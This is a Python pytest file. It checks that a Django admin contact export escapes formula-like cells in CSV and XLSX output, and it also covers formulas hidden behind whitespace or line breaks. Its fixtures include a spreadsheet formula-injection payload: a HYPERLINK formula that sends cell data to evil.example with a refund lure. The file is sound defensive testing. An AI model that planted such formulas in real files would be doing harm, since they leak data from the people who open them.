from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.contrib.auth.models import User

from tests.factories import ContactFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/steal?d="&A1,"Click for your refund")'
DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]


@pytest.fixture
def staff(client):
    client.force_login(User.objects.create_superuser("marketer", password="pw"))
    return client


def export(staff, extension: str) -> bytes:
    form = staff.get("/admin/preferences/contact/export/").context["form"]
    choice = next(value for value, label in form.fields["format"].choices if str(label).lower() == extension)
    fields = {f"contactresource_{name}": "on" for name in ["email", "first_name", "source", "lifecycle"]}
    response = staff.post("/admin/preferences/contact/export/", {"format": choice, "resource": "0", **fields})
    assert response.status_code == 200
    return response.content


def cells_of(content: bytes, extension: str) -> list[str]:
    if extension == "csv":
        return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [str(cell.value) for row in sheet.iter_rows() for cell in row if cell.value is not None]


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_the_admin_export_writes_formula_like_cells_as_text(staff, extension):
    ContactFactory(email="mallory@example.com", first_name=HYPERLINK, source="+31 20 123 4567")
    ContactFactory(email="eve@example.com", first_name="@SUM(1+1)", source="-2+3")
    ContactFactory(email="tab@example.com", first_name="\t=1+1", source="\rcmd")

    cells = cells_of(export(staff, extension), extension)

    assert "mallory@example.com" in cells
    assert [cell for cell in cells if cell.startswith(tuple(DANGEROUS))] == []
    # The text stays readable: only a quote is put in front.
    assert "'" + HYPERLINK in cells and "'@SUM(1+1)" in cells and "'+31 20 123 4567" in cells


HIDDEN = [
    "\n=1+1",
    ' =HYPERLINK("https://evil.example")',
    "\r\n@SUM(A1)",
    "\u00a0+1",
    "  -1+2",
    "\uff1dSUM(1)",
    "\x0b=1",
]


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
@pytest.mark.parametrize("value", HIDDEN)
def test_a_formula_behind_leading_whitespace_or_a_line_break_is_written_as_text(staff, extension, value):
    ContactFactory(email="hidden@example.com", first_name=value, source="web")

    cells = cells_of(export(staff, extension), extension)

    dangerous = [cell for cell in cells if cell.lstrip().startswith((*DANGEROUS, "\uff1d"))]
    assert dangerous == [], dangerous
    assert any(cell.startswith("'") and cell.lstrip("'").strip() == value.strip() for cell in cells), cells


@pytest.mark.parametrize("value", ["Anna", "Jean-Luc", "a@b in the middle", "1 + 1", ""])
def test_ordinary_values_are_left_alone(value):
    from preferences.resources import escape_formula

    assert escape_formula(value) == value
